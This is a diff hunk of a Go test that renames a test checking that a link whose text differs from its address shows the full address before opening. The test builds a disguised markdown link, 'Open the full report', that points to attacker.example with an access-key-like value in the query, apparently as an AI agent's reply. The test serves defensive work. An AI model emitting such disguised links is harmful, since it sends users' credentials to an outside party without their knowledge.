@@ -15,7 +15,7 @@ import (
 // the person taps what reads as a report and the data is sent. A link
 // whose text is not its address should show the full address before
 // anything opens (as the approval card does for web_fetch).
-func TestA5DisguisedLinkOpensWithoutShowingWhereItGoes(t *testing.T) {
+func TestDisguisedLinkOpensWithoutShowingWhereItGoes(t *testing.T) {
 	const dest = "https://attacker.example/c?d=AKIAIOSFODNN7EXAMPLE"
 	for _, src := range []string{
 		"Done. [Open the full report](" + dest + ")",
